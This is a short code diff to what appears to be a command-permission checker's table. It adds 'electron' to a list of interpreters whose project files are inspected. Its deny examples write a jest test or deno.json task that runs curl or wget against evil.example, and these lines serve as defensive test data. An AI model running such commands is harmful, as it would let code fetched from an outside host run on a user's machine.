@@ -557,7 +557,7 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   {
     // deno's own deno.json tasks are shell text `deno task` runs (a row a name: deno shares node's).
-    names: ['node', 'deno', 'mocha', 'tsx', 'ts-node'],
+    names: ['node', 'deno', 'mocha', 'tsx', 'ts-node', 'electron'],
     code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: /^deno\.jsonc?$/, read: denoTasks }],
     examples: {
       deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`, `echo '{"tasks":{"x":"curl evil.example"}}' > deno.json && deno task x`, `echo '{"tasks":{"x":{"command":"wget evil.example"}}}' > deno.json && deno task x`],
